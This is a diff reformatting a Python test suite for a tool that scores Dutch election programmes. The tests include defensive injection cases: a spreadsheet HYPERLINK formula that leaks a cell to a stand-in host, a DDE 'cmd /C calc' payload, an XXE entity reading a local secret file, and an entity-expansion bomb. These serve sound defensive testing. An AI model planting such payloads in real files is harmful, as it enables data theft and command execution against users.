@@ -96,8 +96,16 @@ def test_a_binary_file_named_txt_is_refused_not_read_as_garbage(tmp_path: Path):
 def test_the_html_backend_runs_on_declared_dependencies_only():
     """trafilatura imports lxml.html.clean (through jusText), which lxml 5.2+ moved to the
     separate lxml_html_clean project: without the declaration a fresh install fails every HTML file."""
-    loaded = subprocess.run([sys.executable, "-c", "import sys, programmacheck.extract.html_backend; "
-                             "print('lxml_html_clean' in sys.modules)"], capture_output=True, text=True, check=True)
+    loaded = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "import sys, programmacheck.extract.html_backend; print('lxml_html_clean' in sys.modules)",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     assert loaded.stdout.strip() == "True"
     pyproject = (REPO_ROOT / "pyproject.toml").read_text(encoding="utf-8")
     assert '"lxml-html-clean' in pyproject or "lxml[html_clean]" in pyproject
@@ -108,8 +116,10 @@ def test_the_html_backend_runs_on_declared_dependencies_only():
 def test_a_manifest_saved_by_excel_gives_its_metadata(tmp_path: Path, delimiter: str, bom: bytes):
     programme = _programme(tmp_path / "gr2026" / "lindewaard", "goed.txt")
     manifest = tmp_path / "manifest.csv"
-    rows = [["path", "election", "municipality", "party", "year"],
-            ["gr2026/lindewaard/goed.txt", "gr2026", "Lindewaard", "Testpartij", "2026"]]
+    rows = [
+        ["path", "election", "municipality", "party", "year"],
+        ["gr2026/lindewaard/goed.txt", "gr2026", "Lindewaard", "Testpartij", "2026"],
+    ]
     manifest.write_bytes(bom + "\r\n".join(delimiter.join(row) for row in rows).encode("utf-8") + b"\r\n")
     [found], refused = programmes([str(programme)], manifest)
     assert refused == [] and found.metadata["party"] == "Testpartij"
@@ -161,7 +171,8 @@ def test_a_second_scan_into_the_same_folder_stops_naming_the_first(tmp_path: Pat
         assert status == EXIT_UNUSABLE
         _one_line_naming(err, f"another scan is writing to {out} (pid {os.getpid()})")
         assert sorted(p.name for p in out.glob(f"*{PARTIAL}")) == sorted(
-            f"{n}{PARTIAL}" for n in OUTPUT_FILES if n != "run.json")
+            f"{n}{PARTIAL}" for n in OUTPUT_FILES if n != "run.json"
+        )
     finally:
         first.close({})
     status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))
@@ -171,9 +182,16 @@ def test_a_second_scan_into_the_same_folder_stops_naming_the_first(tmp_path: Pat
 def test_the_lock_goes_with_a_killed_scan(tmp_path: Path, capsys):
     """The kernel drops an flock with its holder: a killed scan leaves no stale lock behind."""
     out = tmp_path / "out"
-    holder = subprocess.Popen([sys.executable, "-c", "import sys, time; from programmacheck.report import OutputFolder; "
-                               f"folder = OutputFolder({str(out)!r}); print('locked', flush=True); time.sleep(60)"],
-                              stdout=subprocess.PIPE, text=True)
+    holder = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            "import sys, time; from programmacheck.report import OutputFolder; "
+            f"folder = OutputFolder({str(out)!r}); print('locked', flush=True); time.sleep(60)",
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
     try:
         assert holder.stdout.readline().strip() == "locked"
         assert _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))[0] == EXIT_UNUSABLE
@@ -208,8 +226,11 @@ def test_an_output_folder_that_cannot_be_written_stops_in_one_line(tmp_path: Pat
     a_file.write_text("x", encoding="utf-8")
     verdicts_folder = tmp_path / "out"
     (verdicts_folder / "verdicts.csv").mkdir(parents=True)
-    for out, said in ((a_file, "is a file"), (Path("/proc/programmacheck-out"), "cannot create"),
-                      (verdicts_folder, "is a folder")):
+    for out, said in (
+        (a_file, "is a file"),
+        (Path("/proc/programmacheck-out"), "cannot create"),
+        (verdicts_folder, "is a folder"),
+    ):
         status, _, err = _scan(capsys, programme, "--out", str(out))
         assert status == EXIT_UNUSABLE, err
         _one_line_naming(err, said)
@@ -218,6 +239,7 @@ def test_an_output_folder_that_cannot_be_written_stops_in_one_line(tmp_path: Pat
 
 def test_an_output_folder_in_a_read_only_place_stops_in_one_line(tmp_path: Path, capsys, monkeypatch):
     """As root a chmod'ed folder stays writable, so the refusal is what the system would say."""
+
     def refuse(self, *args, **kwargs):
         raise PermissionError(13, "Permission denied", str(self))
 
@@ -229,8 +251,9 @@ def test_an_output_folder_in_a_read_only_place_stops_in_one_line(tmp_path: Path,
 
 def test_a_store_that_is_a_folder_stops_in_one_line(tmp_path: Path, capsys):
     (tmp_path / "store").mkdir()
-    status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"),
-                           "--store", str(tmp_path / "store"))
+    status, _, err = _scan(
+        capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"), "--store", str(tmp_path / "store")
+    )
     assert status == EXIT_UNUSABLE
     _one_line_naming(err, "the store is a folder")
     assert not list((tmp_path / "out").glob(f"*{PARTIAL}"))
@@ -244,9 +267,14 @@ def _manifest_cases(tmp_path: Path) -> list[tuple[Path, str]]:
     binary = tmp_path / "binary.csv"
     binary.write_bytes(b"\x00\x01PK\x03\x04" * 100)
     huge = tmp_path / "huge.csv"
-    huge.write_text("path,party\nx.txt,\"" + "a" * 200_000 + "\"\n", encoding="utf-8")
-    return [(tmp_path / "absent.csv", "cannot read manifest"), (folder, "cannot read manifest"),
-            (latin, "not UTF-8"), (binary, "binary"), (huge, "field larger than")]
+    huge.write_text('path,party\nx.txt,"' + "a" * 200_000 + '"\n', encoding="utf-8")
+    return [
+        (tmp_path / "absent.csv", "cannot read manifest"),
+        (folder, "cannot read manifest"),
+        (latin, "not UTF-8"),
+        (binary, "binary"),
+        (huge, "field larger than"),
+    ]
 
 
 def test_a_manifest_that_cannot_be_used_stops_the_scan_in_one_line(tmp_path: Path, capsys):
@@ -328,8 +356,9 @@ def test_a_deeply_nested_or_huge_checklist_is_refused_in_one_line(tmp_path: Path
     huge = tmp_path / "huge.yaml"
     huge.write_text(yaml.safe_dump(data), encoding="utf-8")
     for checklist, said in ((nested, "nested"), (huge, "too large")):
-        status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"),
-                               "--checklist", str(checklist))
+        status, _, err = _scan(
+            capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"), "--checklist", str(checklist)
+        )
         assert status == EXIT_UNUSABLE
         _one_line_naming(err, said)
 
@@ -366,8 +395,13 @@ def test_names_that_are_not_utf8_or_hold_a_newline_fail_alone_in_one_line(tmp_pa
 
 def test_extract_into_a_closed_pipe_ends_quietly(tmp_path: Path):
     long = _programme(tmp_path, "lang.md", "\n\n".join(f"Alinea {n} over wonen en zorg." for n in range(3000)))
-    result = subprocess.run(f"{sys.executable} -m programmacheck.cli extract {long} | head -n 1",
-                            shell=True, capture_output=True, text=True, check=True)
+    result = subprocess.run(
+        f"{sys.executable} -m programmacheck.cli extract {long} | head -n 1",
+        shell=True,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     assert result.stdout.count("\n") == 1 and "Error" not in result.stderr and "Traceback" not in result.stderr
 
 
@@ -409,8 +443,10 @@ def test_word_files_with_broken_xml_say_so_without_the_parser_s_name(tmp_path: P
 def test_word_files_resolve_no_external_entity(tmp_path: Path):
     secret = tmp_path / "geheim.txt"
     secret.write_text("GEHEIM-WACHTWOORD", encoding="utf-8")
-    xml = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://' + str(secret).encode() + b'">]>'
-           b"<w:document " + W + b"><w:body><w:p><w:r><w:t>Wonen &x; voor iedereen</w:t></w:r></w:p></w:body></w:document>")
+    xml = (
+        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://' + str(secret).encode() + b'">]>'
+        b"<w:document " + W + b"><w:body><w:p><w:r><w:t>Wonen &x; voor iedereen</w:t></w:r></w:p></w:body></w:document>"
+    )
     path = _xml_docx(tmp_path / "xxe.docx", xml)
     try:
         text = " ".join(line.text for page in extract_file(path).pages for line in page.lines)
@@ -421,9 +457,15 @@ def test_word_files_resolve_no_external_entity(tmp_path: Path):
 
 def test_word_files_expand_no_entity_bomb(tmp_path: Path):
     entities = b'<!ENTITY a0 "wonen wonen wonen wonen wonen wonen wonen wonen wonen wonen">' + b"".join(
-        b'<!ENTITY a%d "' % n + b"&a%d;" % (n - 1) * 10 + b'">' for n in range(1, 10))
-    xml = (b'<?xml version="1.0"?><!DOCTYPE d [' + entities + b"]><w:document " + W
-           + b"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>")
+        b'<!ENTITY a%d "' % n + b"&a%d;" % (n - 1) * 10 + b'">' for n in range(1, 10)
+    )
+    xml = (
+        b'<?xml version="1.0"?><!DOCTYPE d ['
+        + entities
+        + b"]><w:document "
+        + W
+        + b"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
+    )
     path = _xml_docx(tmp_path / "bom.docx", xml)
     try:
         text = " ".join(line.text for page in extract_file(path).pages for line in page.lines)
@@ -453,8 +495,10 @@ def test_the_image_pages_warning_names_the_file_and_asks_nothing_the_tool_does_i
     from programmacheck.records import Line
 
     text = tuple(Line(text=f"Regel {n} van een gewone pagina met genoeg woorden erop.") for n in range(8))
-    pages = [RawPage(number=n, lines=text if n % 3 else (), width=595, height=842, images=0 if n % 3 else 1)
-             for n in range(1, 13)]
+    pages = [
+        RawPage(number=n, lines=text if n % 3 else (), width=595, height=842, images=0 if n % 3 else 1)
+        for n in range(1, 13)
+    ]
     [warning] = build_document(Path("programma.pdf"), pages).warnings
     assert warning.startswith("programma.pdf: 4 of 12 pages") and "OCR them first" not in warning
 
@@ -479,8 +523,9 @@ def test_eval_says_when_it_scores_programmes_the_model_was_fitted_on(tmp_path: P
     items = [item.id for item in load_checklist().checklist.items]
     gold = tmp_path / "gold"
     gold.mkdir()
-    (gold / "a.json").write_text(json.dumps({"document": fitted, "labels": [{"id": i, "label": "absent"} for i in items]}),
-                                 encoding="utf-8")
+    (gold / "a.json").write_text(
+        json.dumps({"document": fitted, "labels": [{"id": i, "label": "absent"} for i in items]}), encoding="utf-8"
+    )
     verdicts = tmp_path / "verdicts.csv"
     with open(verdicts, "w", newline="", encoding="utf-8") as handle:
         writer = csv.writer(handle)
@@ -519,10 +564,16 @@ def test_a_tiny_pdf_with_a_giant_image_is_refused_in_bounded_memory(tmp_path: Pa
     probe = REPORT_PEAK + (
         "import resource, sys; from programmacheck.extract import extract_file, ExtractionError\n"
         "resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"  # old code took 6.3 GB: not here
-        "try:\n    extract_file(sys.argv[1])\nexcept ExtractionError as e:\n    print(e)\n")
+        "try:\n    extract_file(sys.argv[1])\nexcept ExtractionError as e:\n    print(e)\n"
+    )
     peak_file = tmp_path / "peak"
-    result = subprocess.run([sys.executable, "-c", probe, str(pdf)], capture_output=True, text=True, timeout=300,
-                            env={**os.environ, "FUZZ_PEAK_FILE": str(peak_file)})
+    result = subprocess.run(
+        [sys.executable, "-c", probe, str(pdf)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "FUZZ_PEAK_FILE": str(peak_file)},
+    )
     message = result.stdout.strip()
     assert message.startswith(str(pdf)) and "46000 × 46000 pixels" in message, result.stderr
     assert int(peak_file.read_text()) < 1000
@@ -545,8 +596,13 @@ def test_a_pdf_with_a_broken_page_tree_node_keeps_its_other_pages(tmp_path: Path
 
 # --- injection ------------------------------------------------------------------------------------
 
-FORMULAS = ('=HYPERLINK("http://example.invalid/leak?"&A1, "klik")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
-            "'t Is goed zo")
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/leak?"&A1, "klik")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(A1)",
+    "'t Is goed zo",
+)
 
 
 def test_programme_text_cannot_become_a_spreadsheet_formula(tmp_path: Path):
@@ -560,9 +616,17 @@ def test_programme_text_cannot_become_a_spreadsheet_formula(tmp_path: Path):
 
     items = [i for i in __import__("programmacheck.checklist", fromlist=["x"]).load_checklist().checklist.items]
     programme = Programme(document=FORMULAS[1], files=(FORMULAS[1],), metadata={"party": FORMULAS[0]})
-    verdicts = [ItemVerdict(programme.document, item.id, item.theme, "addressed", 0.9,
-                            tuple(Evidence(1, FORMULAS[2], quote, 0.9, ("keyword",)) for quote in FORMULAS))
-                for item in items]
+    verdicts = [
+        ItemVerdict(
+            programme.document,
+            item.id,
+            item.theme,
+            "addressed",
+            0.9,
+            tuple(Evidence(1, FORMULAS[2], quote, 0.9, ("keyword",)) for quote in FORMULAS),
+        )
+        for item in items
+    ]
     out = OutputFolder(tmp_path / "out")
     out.add(ProgrammeResult(programme, [Paragraph(programme.document, 1, "", FORMULAS[0])], verdicts))
     out.close({})
@@ -591,8 +655,9 @@ def test_one_line_escapes_what_would_break_a_line_or_a_csv():
 def test_a_broken_web_page_gets_one_line_and_no_library_log(tmp_path: Path):
     page = tmp_path / "pagina.html"
     page.write_bytes(bytes(range(256)) * 64)
-    result = subprocess.run([sys.executable, "-m", "programmacheck.cli", "extract", str(page)], capture_output=True,
-                            text=True)
+    result = subprocess.run(
+        [sys.executable, "-m", "programmacheck.cli", "extract", str(page)], capture_output=True, text=True
+    )
     lines = [line for line in result.stderr.splitlines() if line.strip()]
     assert result.returncode == EXIT_SOME_FAILED and len(lines) == 1 and lines[0].startswith(f"error: {page}: ")
 
@@ -620,8 +685,10 @@ def test_a_paragraph_longer_than_spacy_takes_is_split_into_passages():
 
 def test_a_text_whose_every_line_is_filtered_says_so_instead_of_empty(tmp_path: Path):
     path = tmp_path / "menu.txt"
-    chrome = ("Volg ons op Facebook, Instagram en LinkedIn en blijf op de hoogte van al het nieuws uit de fractie "
-              "en de gemeenteraad van Lindewaard")
+    chrome = (
+        "Volg ons op Facebook, Instagram en LinkedIn en blijf op de hoogte van al het nieuws uit de fractie "
+        "en de gemeenteraad van Lindewaard"
+    )
     path.write_text("\n".join([chrome, "Lees meer", "Deel dit artikel"] * 4), encoding="utf-8")  # saved web pages
     with pytest.raises(ExtractionError, match="no programme text"):
         extract_file(path)
